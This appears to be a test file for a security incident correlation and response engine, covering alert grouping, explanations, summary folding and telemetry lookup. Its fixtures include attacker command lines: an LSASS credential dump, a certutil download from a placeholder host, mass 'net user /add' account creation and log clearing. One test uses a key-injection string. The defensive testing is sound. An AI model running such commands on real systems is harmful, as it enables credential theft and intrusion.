import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { planActions } from "../playbooks/plan.ts";
import { makeEve, makeProcess, makeWindows } from "../testing/make-alert.ts";
import { correlate } from "./correlate.ts";
import { correlationRules } from "./correlation-rules.ts";
import { explain } from "./explain.ts";
import { fold, type IncidentSummary, mergeSummaries, restoreSummary } from "./fold.ts";
import { telemetryKey, telemetryKeysOf } from "./telemetry-key.ts";

const noon = Date.UTC(2026, 0, 2, 12);
const hour = 3_600_000;
const name = (alert: Parameters<typeof correlate>[0]) => correlate(alert)?.name;

describe("correlate", () => {
  it("gives a safe name that depends on the key alone", () => {
    const a = correlate(makeEve({ signature: "ET WEB_SERVER one" }));
    const b = correlate(makeEve({ signature: "ET WEB_SERVER two", at: noon + hour }));
    expect(a?.name).toMatch(/^inc-[a-z2-7]{12}$/);
    expect(b?.name).toBe(a?.name);
    expect(b?.key).toBe(a?.key);
    expect(b?.title).not.toBe(a?.title);
  });

  it("gives different names to different keys", () => {
    const names = new Set<string | undefined>();
    for (let i = 0; i < 5000; i++)
      names.add(name(makeEve({ signature: "ET WEB_SERVER x", src: [`198.51.${i >> 8}.${i & 255}`, 1] })));
    expect(names.size).toBe(5000);
  });

  it("opens nothing for telemetry", () => {
    expect(correlate(makeProcess("notepad.exe"))).toBeUndefined();
  });

  it("keeps one attacker's alerts together whatever they look like", () => {
    const http = { http: { url: "/x" } };
    const names = [
      makeEve({ signature: "ET WEB_SERVER SQL injection" }),
      makeEve({ signature: "ET SCAN Web scanner", extra: http }),
      makeEve({ signature: "ET POLICY odd request" }),
      makeEve({ signature: "SURICATA HTTP invalid" }),
      makeEve({
        signature: "GPL ATTACK_RESPONSE id",
        src: ["10.0.0.5", 41_000],
        dest: ["198.51.100.7", 60_000],
      }),
    ].map(name);
    expect(new Set(names).size).toBe(1);
  });

  it("keeps an infected host's alerts together in both directions, apart from another host's", () => {
    const checkin = makeEve({
      signature: "ET MALWARE check-in",
      src: ["10.0.0.9", 50_000],
      dest: ["203.0.113.4", 443],
    });
    const payload = makeEve({
      signature: "ET TROJAN payload",
      src: ["203.0.113.99", 80],
      dest: ["10.0.0.9", 50_100],
    });
    const other = makeEve({
      signature: "ET MALWARE check-in",
      src: ["10.0.0.8", 50_000],
      dest: ["203.0.113.4", 443],
    });
    expect(name(checkin)).toBe(name(payload));
    expect(name(other)).not.toBe(name(checkin));
  });

  it("reads a scan of a network as one incident, many senders and ports", () => {
    const scans = [1, 2, 3].map((i) =>
      makeEve({ signature: "ET SCAN probe", src: [`198.51.100.${i}`, 4000], dest: [`10.0.0.${i}`, i] }),
    );
    expect(new Set(scans.map(name)).size).toBe(1);
    expect(name(makeEve({ signature: "ET SCAN probe", dest: ["10.0.1.1", 5] }))).not.toBe(name(scans[0]!));
  });

  it("files a server's reply with what it answers", () => {
    const signature = "ET SCAN SSH brute force login";
    const attempt = makeEve({ signature, src: ["198.51.100.7", 40_000], dest: ["10.0.0.5", 22] });
    const reply = makeEve({ signature, src: ["10.0.0.5", 22], dest: ["198.51.100.7", 40_000] });
    expect(correlate(reply)).toMatchObject({
      ruleId: "brute-force",
      fields: { sender: "198.51.100.7", receiver: "10.0.0.5" },
    });
    expect(name(reply)).toBe(name(attempt));
  });

  it("reads detections on one host within the window as one incident", () => {
    const dump = makeProcess("rundll32 comsvcs.dll MiniDump 1 x full");
    const cleared = makeWindows("Security/1102", {}, noon + hour);
    const later = makeWindows("Security/1102", {}, noon + 7 * hour);
    const elsewhere = makeWindows("Security/1102", {}, noon, "host-2.example.com");
    expect(name(cleared)).toBe(name(dump));
    expect(name(later)).not.toBe(name(dump));
    expect(name(elsewhere)).not.toBe(name(dump));
  });

  it("places alerts that name no address", () => {
    const alert = makeEve({ extra: { src_ip: "?", dest_ip: undefined } });
    expect(correlate(alert)).toMatchObject({ ruleId: "unplaced", title: "LOCAL alert" });
  });

  it("gives every alert an incident, also one that names no host, address or signature", () => {
    const noActors = { hosts: [], ips: [], users: [] };
    const hostless = { ...makeWindows("Security/1102"), actors: noActors };
    expect(correlate(hostless)).toMatchObject({ ruleId: "unplaced", title: hostless.signature });
    const { signature: _, signatureId: __, ...bare } = hostless;
    expect(correlate(bare)).toMatchObject({
      ruleId: "remaining",
      title: "Alert",
      because: "These alerts fall between 2026-01-02 00:00 and 2026-01-03 00:00 UTC.",
    });
    for (const alert of [hostless, bare]) expect(fold(undefined, [alert])?.alertCount).toBe(1);
  });

  it("cannot be led to another key by text in a field", () => {
    const a = makeWindows("Security/1102", { Hostname: 'x"],["host","y' });
    expect(JSON.parse(correlate(a)?.key ?? "")[2]).toEqual([["host", 'x"],["host","y']]);
  });
});

describe("explain", () => {
  it("says what the alerts share, when, and why that counts", () => {
    const correlation = correlate(makeEve({ signature: "ET WEB_SERVER x" }));
    const explanation = explain(correlation?.key ?? "");
    expect(explanation.sentence).toBe(
      "These alerts have the same attacker 198.51.100.7 and fall between 2026-01-02 00:00 and 2026-01-03 00:00 UTC.",
    );
    expect(correlation?.because).toBe(explanation.sentence);
    expect(explanation.why.length).toBeGreaterThan(20);
  });

  it("answers for a key of no rule", () => {
    for (const key of ["", "nonsense", "[1,2,3]", '["gone",0,[]]'])
      expect(explain(key).rule).toBe("Unknown rule");
  });

  it("finds every rule by the id that its keys carry", () => {
    expect(new Set(correlationRules.map((rule) => rule.id)).size).toBe(correlationRules.length);
  });
});

describe("fold", () => {
  const alerts = [
    makeWindows("Security/1102", { SubjectUserName: "zoe", SubjectDomainName: "EX" }, noon),
    makeProcess("rundll32 comsvcs.dll MiniDump 1 x full", { User: "EX\\amy" }, noon + 60_000),
    makeProcess("certutil -urlcache -f http://192.0.2.1/a a", { User: "EX\\bob" }, noon + 5000),
    makeWindows("System/104", { SourceName: "Microsoft-Windows-Eventlog" }, noon + 1000),
    ...Array.from({ length: 60 }, (_, i) =>
      makeProcess(`net user u${i} x /add`, { User: `EX\\user${i}` }, noon + i),
    ),
  ];

  it("is led by the most severe alert", () => {
    expect(fold(undefined, alerts)).toMatchObject({
      title: "LSASS memory dump with comsvcs.dll MiniDump on host-1.example.com",
      severity: "critical",
      type: "credential-access",
      firstAt: noon,
      lastAt: noon + 60_000,
      alertCount: 64,
      counts: { low: 0, medium: 61, high: 2, critical: 1 },
    });
  });

  it("is led by the deed rather than by the hiding of its traces, where both are as severe", () => {
    expect(fold(undefined, [alerts[0]!, alerts[2]!])?.title).toMatch(/certutil/);
  });

  it("does not depend on order or grouping", () => {
    const whole = fold(undefined, alerts);
    fc.assert(
      fc.property(
        fc.shuffledSubarray(alerts, { minLength: alerts.length }),
        fc.array(fc.nat(alerts.length), { maxLength: 5 }),
        (shuffled, cuts) => {
          const borders = [0, ...cuts.sort((a, b) => a - b), alerts.length];
          const parts = borders.slice(1).map((end, i) => fold(undefined, shuffled.slice(borders[i], end)));
          const merged = parts
            .filter((part): part is IncidentSummary => part !== undefined)
            .reduceRight((a, b) => mergeSummaries(a, b));
          expect(merged).toEqual(whole);
          expect(fold(undefined, shuffled)).toEqual(whole);
        },
      ),
    );
  });

  it("keeps the address that the incident is about, however many others there are", () => {
    const attacks = Array.from({ length: 40 }, (_, i) =>
      makeEve({ signature: "ET WEB_SERVER x", src: ["45.9.1.1", 4000], dest: [`10.0.0.${i + 1}`, 443] }),
    );
    const summary = fold(undefined, attacks)!;
    expect(summary.actors.ips).not.toContain("45.9.1.1");
    expect(summary.keyIps).toEqual(["45.9.1.1"]);
    const { actions } = planActions(summary);
    expect(actions.find(({ id }) => id === "block-address")?.targets).toEqual([
      { kind: "external-ip", value: "45.9.1.1" },
    ]);
  });

  it("goes on with a summary that an earlier version stored", () => {
    const attack = () => makeEve({ signature: "ET WEB_SERVER x" });
    const { keyIps, ...stored } = fold(undefined, [attack()])!;
    const restored = restoreSummary(stored);
    expect(planActions(restored).actions.map(({ id }) => id)).toContain("block-address");
    expect(fold(restored, [attack()])).toMatchObject({ alertCount: 2, keyIps });
  });

  it("knows which public address is ours", () => {
    const scan = makeEve({
      signature: "ET SCAN probe",
      src: ["203.0.113.9", 4000],
      dest: ["192.0.2.10", 22],
    });
    expect(fold(undefined, [scan])?.ownIps).toEqual(["192.0.2.10"]);
  });
});

describe("telemetry", () => {
  it("is found from an incident on the same host at about the same time", () => {
    const summary = fold(undefined, [makeWindows("Security/1102", {}, noon)]);
    const keys = telemetryKeysOf(summary!);
    const at = (when: number, host?: string) => telemetryKey(makeWindows("Sysmon/5", {}, when, host)) ?? "";
    expect(keys).toContain(at(noon - 10 * 60_000));
    expect(keys).toContain(at(noon + 20 * 60_000));
    expect(keys).not.toContain(at(noon + 5 * hour));
    expect(keys).not.toContain(at(noon, "host-2.example.com"));
  });

  it("is filed by the inside address for network records, and the look-up is bounded", () => {
    const dns = makeEve({
      src: ["10.0.0.9", 50_000],
      dest: ["203.0.113.4", 53],
      extra: { event_type: "dns" },
    });
    const alert = makeEve({
      signature: "ET MALWARE x",
      src: ["10.0.0.9", 50_001],
      dest: ["203.0.113.5", 443],
    });
    expect(telemetryKeysOf(fold(undefined, [alert])!)).toContain(telemetryKey(dns));
    const actors = { hosts: ["a"], ips: [], users: [] };
    expect(telemetryKeysOf({ firstAt: 0, lastAt: 1e12, actors, ownIps: [], keyIps: [] }).length).toBe(400);
  });

  it("is looked for at the host that the incident is about, however many strangers it talked to", () => {
    const checkIns = Array.from({ length: 40 }, (_, i) =>
      makeEve({
        signature: "ET MALWARE x",
        at: noon + i * hour,
        src: ["192.168.0.9", 50_001],
        dest: [`104.0.0.${i}`, 443],
      }),
    );
    const keys = telemetryKeysOf(fold(undefined, checkIns)!);
    for (const alert of checkIns) expect(keys).toContain(telemetryKey(alert));
  });
});
